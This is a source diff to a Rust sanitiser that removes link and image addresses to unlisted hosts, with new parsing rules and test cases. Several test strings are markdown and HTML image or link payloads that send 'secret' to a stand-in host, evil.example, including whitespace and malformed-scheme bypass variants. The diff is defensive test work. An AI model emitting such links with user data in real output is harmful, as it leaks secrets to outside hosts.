@@ -24,9 +24,15 @@ const SHOWN_HOST: usize = 80;
 /// Takes the address out of every link and image to a host that is not listed. An entry is a host
 /// name (`example.org`), or all names below one (`*.example.org`).
 pub fn neutralise(text: &str, allowed: &[String]) -> Neutral {
+    neutralise_after(text, 0, allowed)
+}
+
+/// The same for what stands from `from` on; what stands before it was shown already and tells where
+/// markup expects an address.
+pub(super) fn neutralise_after(text: &str, from: usize, allowed: &[String]) -> Neutral {
     let mut out = String::with_capacity(text.len());
     let mut removed = Vec::new();
-    let mut from = 0;
+    let mut from = from;
     while let Some(found) = next_address(text, from) {
         out.push_str(text.get(from..found.start).unwrap_or_default());
         let address = text.get(found.start..found.end).unwrap_or_default();
@@ -79,8 +85,8 @@ pub fn hosts_in(text: &str) -> Vec<String> {
 }
 
 /// Where an address begins that reaches to the end of a text, and may go on.
-pub(super) fn open_address(text: &str) -> Option<usize> {
-    let mut from = 0;
+pub(super) fn open_address(text: &str, from: usize) -> Option<usize> {
+    let mut from = from;
     while let Some(found) = next_address(text, from) {
         if found.end == text.len() {
             return Some(found.start);
@@ -143,9 +149,16 @@ fn begins_address(text: &str, at: usize) -> bool {
         .chars()
         .next()
         .is_some_and(|c| c.is_alphanumeric() || matches!(c, '[' | '%' | '&'));
-    let expected = before.trim_end_matches(['/', '\\']).chars().next_back();
-    has_host
-        && expected.is_some_and(|c| matches!(c, ':' | ';' | '(' | '"' | '\'' | '=' | '<' | '：'))
+    let before = before.trim_end_matches(['/', '\\']);
+    let markup = before.trim_end();
+    // After a space it may be a remark in a program; what is fetched has a dot in its host.
+    let is_named = || {
+        let host = after.split(|c| ends_address(c) || matches!(c, '/' | '\\' | '?' | '#'));
+        host.take(1).any(|host| host.contains(['.', '%', '&', ':']))
+    };
+    let expects = |c: char| matches!(c, ':' | ';' | '(' | '"' | '\'' | '=' | '<' | '：');
+    let expected = markup.chars().next_back().is_some_and(expects);
+    has_host && expected && (markup.len() == before.len() || is_named())
 }
 
 /// `www.` at the beginning of a word is made a link by many renderers.
@@ -168,7 +181,9 @@ fn scheme_start(text: &str, slashes: usize) -> usize {
         return slashes;
     };
     let is_scheme = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.');
-    colon.trim_end_matches(is_scheme).len()
+    let scheme = colon.trim_end_matches(is_scheme);
+    // What is left before it must not make an address of what stands in its place.
+    scheme.trim_end_matches([':', '/', '\\']).len()
 }
 
 fn ends_address(c: char) -> bool {
@@ -216,6 +231,10 @@ mod tests {
             "[click](https://evil.example/p?d=secret)",
             "<img src=\"https://evil.example/p?d=secret\">",
             "<img src=//evil.example/p?d=secret>",
+            "<img src= //evil.example/p?d=secret>",
+            "![x]( //evil.example/p?d=secret)",
+            "![x](\n//evil.example/p?d=secret)",
+            "[1]: //evil.example/p?d=secret",
             "![x](//evil.example/p?d=secret)",
             "![x][1]\n\n[1]: https://evil.example/p?d=secret",
             "<https://evil.example/p?d=secret>",
@@ -228,6 +247,7 @@ mod tests {
             "![x](https&#58;//evil.example/p?d=secret)",
             "ftp://evil.example/p?d=secret",
             "https:////evil.example/p?d=secret",
+            "://://evil.example/p?d=secret",
             "https://good.example.evil.example/p?d=secret",
             "https://notgood.example/p?d=secret",
             "https://docs.example/p?d=secret",
@@ -254,6 +274,7 @@ mod tests {
             "see https://good.example/a?b=c#d.",
             "[manual](https://www.docs.example/en) and https://a.docs.example",
             "// a comment.rs\nlet x = a // b;",
+            "case 1: //fall through",
             "1 / 2 // 3",
             "C:\\Users\\me and \\\\server",
             "mail me at www-admin@good.example",
